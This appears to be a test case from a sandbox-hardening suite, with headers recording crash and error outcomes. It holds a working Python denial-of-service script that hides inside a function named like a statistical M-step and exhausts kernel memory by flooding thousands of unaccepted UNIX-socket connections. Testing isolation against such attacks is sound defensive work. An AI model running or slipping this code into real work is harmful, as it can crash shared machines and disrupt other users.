# attack: kernel memory in connections that nobody accepts
# outcome: mstep crashed
# outcome under landlock: mstep error
# seconds: 60
# %% cell mstep
import socket
import time


def mstep(x, posterior):
    kept = []
    for n in range(20):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(f"/tmp/{n}")
        listener.listen(4096)
        kept.append(listener)
        for _ in range(4000):
            with socket.socket(socket.AF_UNIX) as client:
                client.setblocking(False)
                client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
                try:
                    client.connect(f"/tmp/{n}")
                    while True:
                        client.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
    time.sleep(100)
